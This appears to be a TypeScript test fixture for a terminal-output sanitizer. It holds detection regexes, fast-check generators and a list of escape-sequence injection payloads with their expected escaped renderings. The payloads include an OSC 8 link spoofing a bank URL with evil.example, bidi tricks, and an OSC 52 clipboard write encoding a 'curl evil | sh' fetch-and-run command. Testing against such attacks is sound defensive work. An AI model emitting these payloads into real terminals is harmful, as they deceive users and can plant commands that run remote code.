import fc from 'fast-check';

/** Anything a terminal could act on (outside SGR added by us), for single-line output. */
export const DANGEROUS_IN_LINE = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\p{Cf}]|\p{Cs}/u;
/** The same with LF allowed. */
export const DANGEROUS_MULTILINE =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\p{Cf}]|\p{Cs}/u;
/** Any escape sequence introducer: ESC or the C1 control block. */
export const ANY_ESCAPE = /[\u001b\u0080-\u009f]/u;

/** Terminal attacks seen in the wild, with what a user must see instead. */
export const ATTACKS: ReadonlyArray<{ label: string; payload: string; shown: string }> = [
  { label: 'clear screen (CSI 2J)', payload: 'hi\u001b[2J\u001b[H', shown: 'hi^[[2J^[[H' },
  { label: 'window title (OSC 0, BEL)', payload: '\u001b]0;pwned\u0007', shown: '^[]0;pwned^G' },
  {
    label: 'OSC 8 hyperlink',
    payload: '\u001b]8;;https://evil.example/\u001b\\bank.example\u001b]8;;\u001b\\',
    shown: '^[]8;;https://evil.example/^[\\bank.example^[]8;;^[\\',
  },
  {
    label: 'OSC 52 clipboard write',
    payload: '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007',
    shown: '^[]52;c;Y3VybCBldmlsIHwgc2g=^G',
  },
  { label: 'CSI 21t title report', payload: '\u001b[21t', shown: '^[[21t' },
  { label: 'bare CR overwrite', payload: 'I owe you $5\r$500', shown: 'I owe you $5^M$500' },
  { label: 'bidi override U+202E', payload: 'file\u202egnp.exe', shown: 'file\\u{202E}gnp.exe' },
  { label: 'zero-width joiner', payload: 'ali\u200dce', shown: 'ali\\u{200D}ce' },
  { label: 'single-character CSI U+009B', payload: '\u009b2J', shown: '\\u{009B}2J' },
  {
    label: 'unterminated OSC then more text',
    payload: 'a\u001b]0;b then more text',
    shown: 'a^[]0;b then more text',
  },
  { label: 'NUL and BEL', payload: 'x\u0000\u0007y', shown: 'x^@^Gy' },
  { label: 'DEL', payload: 'abc\u007f\u007f', shown: 'abc^?^?' },
  { label: 'isolate U+2067', payload: '\u2067evil\u2069', shown: '\\u{2067}evil\\u{2069}' },
  { label: 'lone surrogate', payload: 'x\ud83dy', shown: 'x\\u{D83D}y' },
];

const interesting = fc.constantFrom(
  '\u001b',
  '[',
  ']',
  ';',
  '\\',
  '\u0007',
  '\n',
  '\r',
  '\t',
  '\u007f',
  '\u009b',
  '\u009c',
  '\u009d',
  '\u202e',
  '\u2066',
  '\u200d',
  '\u061c',
  '\ufffa',
  '\u2028',
  '\ud800',
  '\udc00',
  '\ud83d\ude00',
  '^',
  '…',
  'a',
  ' ',
);
const anyCodeUnit = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));
const anyCodePoint = fc.integer({ min: 0, max: 0x10ffff }).map((c) => String.fromCodePoint(c));

/** Strings of arbitrary UTF-16 (lone surrogates included), biased towards attack material. */
export const anyText = fc.string({
  unit: fc.oneof(interesting, anyCodeUnit, anyCodePoint),
  maxLength: 60,
});
